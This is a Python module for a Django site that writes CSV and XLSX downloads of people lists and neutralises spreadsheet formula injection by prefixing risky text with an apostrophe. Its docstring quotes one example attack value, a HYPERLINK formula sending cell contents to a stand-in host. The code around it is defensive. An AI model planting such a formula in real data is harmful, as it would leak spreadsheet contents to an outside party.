"""CSV and XLSX writers for lists of people, safe to open in a spreadsheet.

A text cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return would be read
by Excel or LibreOffice as a formula (OWASP "CSV injection", ASVS 1.2.10): a name such as
`=HYPERLINK("http://evil.example/?"&A1,"Click")` could send the sheet's contents away.
Every text cell is passed through `neutralise`, which puts an apostrophe in front of such
values so they are shown as typed and never run. Numbers and dates are written as numbers
and dates, so a negative number stays a number.

Any page that offers a spreadsheet download uses these writers: the cohort tracker, the
monthly list outcomes, reports.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import date, datetime
from decimal import Decimal

from django.http import HttpResponse
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, TYPE_STRING
from openpyxl.styles import Font

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

CSV_TYPE = "text/csv; charset=utf-8"
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

Cell = str | int | float | Decimal | date | datetime | bool | None


def neutralise(value: Cell) -> Cell:
    """The value as a spreadsheet should hold it: text that could start a formula gets a
    leading apostrophe; numbers, dates and empty cells are left alone."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def _csv_text(value: Cell) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "Yes" if value else "No"
    if isinstance(value, datetime):
        return value.isoformat(sep=" ", timespec="minutes")
    if isinstance(value, date):
        return value.isoformat()
    return str(neutralise(value))


def write_csv(headers: Sequence[str], rows: Iterable[Sequence[Cell]]) -> bytes:
    """UTF-8 with a byte-order mark, so Excel reads accented names correctly."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([_csv_text(header) for header in headers])
    for row in rows:
        writer.writerow([_csv_text(value) for value in row])
    return buffer.getvalue().encode("utf-8-sig")


def _xlsx_value(value: Cell) -> Cell:
    if isinstance(value, bool):
        return "Yes" if value else "No"
    if isinstance(value, str):
        # Control characters cannot be stored in XLSX at all; drop them rather than fail.
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    return neutralise(value)


def write_xlsx(
    headers: Sequence[str], rows: Iterable[Sequence[Cell]], *, sheet_title: str = "List"
) -> bytes:
    """One worksheet with a bold header row; text cells are stored as text, never formulas."""
    return write_workbook([Sheet(sheet_title, headers, rows)])


@dataclass(frozen=True)
class Sheet:
    title: str
    headers: Sequence[str]
    rows: Iterable[Sequence[Cell]]


def sheet_name(title: str, taken: set[str]) -> str:
    """Excel limits sheet names to 31 characters, forbids a few, and wants them unique."""
    base = "".join(c for c in title if c not in "[]:*?/\\'")[:31].strip() or "List"
    name, number = base, 2
    while name.lower() in taken:
        suffix = f" {number}"
        name, number = base[: 31 - len(suffix)] + suffix, number + 1
    taken.add(name.lower())
    return name


def write_workbook(sheets: Sequence[Sheet]) -> bytes:
    """One worksheet per sheet, each with a bold header row; text is never a formula."""
    workbook = Workbook()
    taken: set[str] = set()
    for index, spec in enumerate(sheets):
        sheet = workbook.active if index == 0 else workbook.create_sheet()
        sheet.title = sheet_name(spec.title, taken)
        sheet.append([neutralise(header) for header in spec.headers])
        for cell in sheet[1]:
            cell.font = Font(bold=True)
        for row in spec.rows:
            values = [_xlsx_value(value) for value in row]
            sheet.append(values)
            # openpyxl treats any string starting with "=" as a formula; with the apostrophe
            # it no longer starts so, but say "text" explicitly so no change can undo it.
            for cell in sheet[sheet.max_row]:
                if isinstance(cell.value, str):
                    cell.data_type = TYPE_STRING
                elif isinstance(cell.value, date) and not isinstance(cell.value, datetime):
                    cell.number_format = "dd/mm/yyyy"
        sheet.freeze_panes = "A2"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def download(content: bytes, *, file_name: str, content_type: str) -> HttpResponse:
    """A response the browser saves as a file, never shows or caches."""
    response = HttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = f'attachment; filename="{file_name}"'
    response["Cache-Control"] = "no-store"
    response["X-Content-Type-Options"] = "nosniff"
    return response
